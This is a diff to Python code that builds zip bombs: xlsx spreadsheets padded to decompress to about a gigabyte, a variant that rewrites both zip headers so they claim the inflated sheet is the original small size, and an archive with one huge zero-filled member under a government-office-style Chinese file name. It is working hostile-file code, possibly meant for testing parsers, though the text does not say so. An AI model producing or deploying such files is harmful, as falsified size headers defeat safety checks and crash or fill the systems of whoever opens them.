@@ -185,7 +185,7 @@ def zip_bomb_xlsx(src: Path, dst: Path, sheet: str, size: int = 1 << 30) -> Path
             head, tail = data.split(b"<sheetData>", 1)
             target = zipfile.ZipInfo(info.filename, date_time=info.date_time)
             target.compress_type = zipfile.ZIP_DEFLATED
-            with zout.open(target, "w", force_zip64=True) as fh:
+            with zout.open(target, "w") as fh:  # < 4 GiB: plain 32-bit sizes in both headers
                 fh.write(head + b"<sheetData>")
                 _deflate_run(fh, size - len(data))
                 fh.write(tail)
@@ -193,7 +193,7 @@ def zip_bomb_xlsx(src: Path, dst: Path, sheet: str, size: int = 1 << 30) -> Path
 
 
 def lying_zip_bomb_xlsx(src: Path, dst: Path, sheet: str, size: int = 1 << 30) -> Path:
-    """Like :func:`zip_bomb_xlsx`, but the headers claim the member is as small as the original sheet."""
+    """Like :func:`zip_bomb_xlsx`, but both zip headers claim the member is as small as the original sheet."""
     honest = dst.with_name(dst.stem + ".honest.xlsx")
     zip_bomb_xlsx(src, honest, sheet, size)
     member = sheet_member(src, sheet).encode()
@@ -201,22 +201,17 @@ def lying_zip_bomb_xlsx(src: Path, dst: Path, sheet: str, size: int = 1 << 30) -
         claimed = zf.getinfo(member.decode()).file_size
     data = bytearray(honest.read_bytes())
     honest.unlink()
-    # Local header: sizes are in the zip64 extra field (force_zip64); the central directory likewise.
-    for sig, name_off, extra_len_off, fixed in ((b"PK\x03\x04", 26, 28, 30), (b"PK\x01\x02", 28, 30, 46)):
+    patched = 0
+    # (signature, offset of the uncompressed size, offset of the name length, size of the fixed part)
+    for sig, size_at, name_len_at, fixed in ((b"PK\x03\x04", 22, 26, 30), (b"PK\x01\x02", 24, 28, 46)):
         pos = 0
         while (pos := data.find(sig, pos)) >= 0:
-            n_len, x_len = struct.unpack_from("<HH", data, pos + name_off)
-            start = pos + fixed + (0 if sig == b"PK\x03\x04" else 0)
-            name = bytes(data[start:start + n_len])
-            if name == member:
-                extra = pos + fixed + n_len
-                end = extra + x_len
-                while extra + 4 <= end:
-                    tag, ln = struct.unpack_from("<HH", data, extra)
-                    if tag == 0x0001:  # zip64: uncompressed size comes first
-                        struct.pack_into("<Q", data, extra + 4, claimed)
-                    extra += 4 + ln
+            (n_len,) = struct.unpack_from("<H", data, pos + name_len_at)
+            if bytes(data[pos + fixed:pos + fixed + n_len]) == member:
+                struct.pack_into("<I", data, pos + size_at, claimed)
+                patched += 1
             pos += 4
+    assert patched == 2
     dst.write_bytes(bytes(data))
     return dst
 
@@ -227,7 +222,7 @@ def zip_bomb_archive(dst: Path, member: str = "2026年3月_区卫生健康局_�
         info = zipfile.ZipInfo(member, date_time=(2026, 3, 20, 9, 0, 0))
         info.compress_type = zipfile.ZIP_DEFLATED
         info.flag_bits |= 0x800
-        with zout.open(info, "w", force_zip64=True) as fh:
+        with zout.open(info, "w") as fh:
             _deflate_run(fh, size, b"\0")
     return dst
 
